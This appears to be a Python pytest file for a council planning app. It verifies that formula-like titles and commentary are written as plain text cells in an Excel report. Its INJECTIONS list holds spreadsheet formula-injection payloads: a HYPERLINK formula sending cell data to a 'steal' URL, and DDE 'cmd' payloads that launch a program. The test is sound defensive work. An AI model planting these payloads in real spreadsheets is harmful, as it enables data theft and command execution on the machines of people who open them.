"""Text that a spreadsheet could run as a formula is written as text in the Excel report."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from councilplan.interchange.load import plan_import_document
from councilplan.plans.selectors import period_get
from councilplan.reports.services import report_render
from tests.interchange.full_plan import full_plan_document

pytestmark = pytest.mark.django_db

INJECTIONS = [
    '=HYPERLINK("https://example.com/steal?d="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "#N/A",
]


def test_formula_like_text_is_a_string_cell_in_the_excel_report():
    document = full_plan_document()
    for item, text in zip(document["items"], INJECTIONS, strict=False):
        item["title"] = text
    for update, text in zip(document["updates"], reversed(INJECTIONS), strict=False):
        update["commentary"] = text
    plan = plan_import_document(document=document, file="plan.json").plan
    data = report_render(plan=plan, period=period_get(plan=plan, key="2024-Q2"), format="xlsx")

    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in package.read(name) for name in sheets)
    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for row in workbook["Items"].iter_rows() for cell in row]
    written = {cell.value: cell for cell in cells if cell.value in INJECTIONS}
    titles = [item["title"] for item in document["items"]]
    assert set(titles) <= set(written)
    assert INJECTIONS[0] in written  # a commentary as well as titles
    for cell in written.values():
        assert cell.data_type == "s", (cell.coordinate, cell.value)
